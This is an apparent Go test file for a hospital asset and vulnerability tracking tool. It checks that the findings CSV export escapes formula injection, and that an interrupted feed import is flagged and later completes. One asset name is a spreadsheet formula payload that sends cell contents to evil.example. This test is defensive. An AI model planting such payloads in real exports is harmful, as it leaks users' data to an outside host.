package app

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/medisac/medisac/internal/auth"
	"github.com/medisac/medisac/internal/db"
	"github.com/medisac/medisac/internal/db/dbtest"
	"github.com/medisac/medisac/internal/inventory"
	"github.com/medisac/medisac/internal/testkit"
	"github.com/medisac/medisac/internal/testkit/seed"
	"github.com/medisac/medisac/internal/vuln"
)

// TestVulnFindingsCSVFormula: an asset name that a spreadsheet would run
// as a formula is written into the findings CSV with a leading apostrophe.
func TestVulnFindingsCSVFormula(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		ctx := context.Background()
		now := testkit.Start
		org := seed.Org(t, d, auth.OrgInput{Kind: auth.KindHospital, Name: "書き出し病院", Prefecture: "東京都"}, now)
		name := `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
		a, err := inventory.CreateAsset(ctx, d, org.ID, "", inventory.Asset{Name: name, Kind: inventory.KindNetwork}, now)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := d.Exec(ctx, `INSERT INTO vuln_findings (id, org_id, asset_id, vuln_id, active, confidence, priority, rank, first_seen, changed_at) VALUES (?, ?, ?, ?, ?, 'exact', ?, ?, ?, ?)`,
			db.NewID(), org.ID, a.ID, "CVE-2099-00001", true, 1, 1, now, now); err != nil {
			t.Fatal(err)
		}
		var out bytes.Buffer
		if err := streamFindings(ctx, d, org.ID, vuln.FindingFilter{}, "csv", &out); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv %v %q", err, out.String())
		}
		if rows[1][0] != "'"+name {
			t.Errorf("asset name cell %q", rows[1][0])
		}
	})
}

// TestVulnImportShowsInterrupted: an import whose process died (running,
// heartbeat long past) is marked by the next `medisac vuln import`, which
// lists it with what to do until the same file is imported completely.
func TestVulnImportShowsInterrupted(t *testing.T) {
	dir := t.TempDir()
	if out, err := runCLI(t, dir, "migrate"); err != nil {
		t.Fatalf("migrate: %v %s", err, out)
	}
	ctx := context.Background()
	d, err := db.Open(ctx, filepath.Join(dir, "medisac.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	long := time.Now().Add(-time.Hour)
	if _, err := d.Exec(ctx, `INSERT INTO vuln_imports (id, at, name, format, records, ok, state, heartbeat, matched) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
		db.NewID(), long, "kev_trimmed.json", "kev", 20, false, vuln.ImportRunning, long, false); err != nil {
		t.Fatal(err)
	}
	kev := filepath.Join("..", "vuln", "testdata", "kev", "kev_trimmed.json")
	epss := filepath.Join("..", "vuln", "testdata", "epss", "epss_scores-2023-03-07.csv.gz")
	out, err := runCLI(t, dir, "vuln", "import", epss)
	if err != nil || !strings.Contains(out, "kev_trimmed.json") || !strings.Contains(out, "取り込みが途中で止まりました（kev_trimmed.json）。同じファイルをもう一度取り込むと完了します。") {
		t.Fatalf("import after a killed one: %v\n%s", err, out)
	}
	var matched bool
	var state string
	if err := d.QueryRow(ctx, `SELECT state, matched FROM vuln_imports WHERE name = ?`, "kev_trimmed.json").Scan(&state, &matched); err != nil || state != vuln.ImportInterrupted || !matched {
		t.Fatalf("killed import: %q matched=%v %v", state, matched, err)
	}
	if out, err := runCLI(t, dir, "vuln", "import", kev); err != nil || !strings.Contains(out, "kev_trimmed.json: kev, 20 records") {
		t.Fatalf("import again: %v\n%s", err, out)
	}
	if out, err := runCLI(t, dir, "vuln", "import", epss); err != nil || strings.Contains(out, "途中で止まりました") {
		t.Fatalf("after completing: %v\n%s", err, out)
	}
}
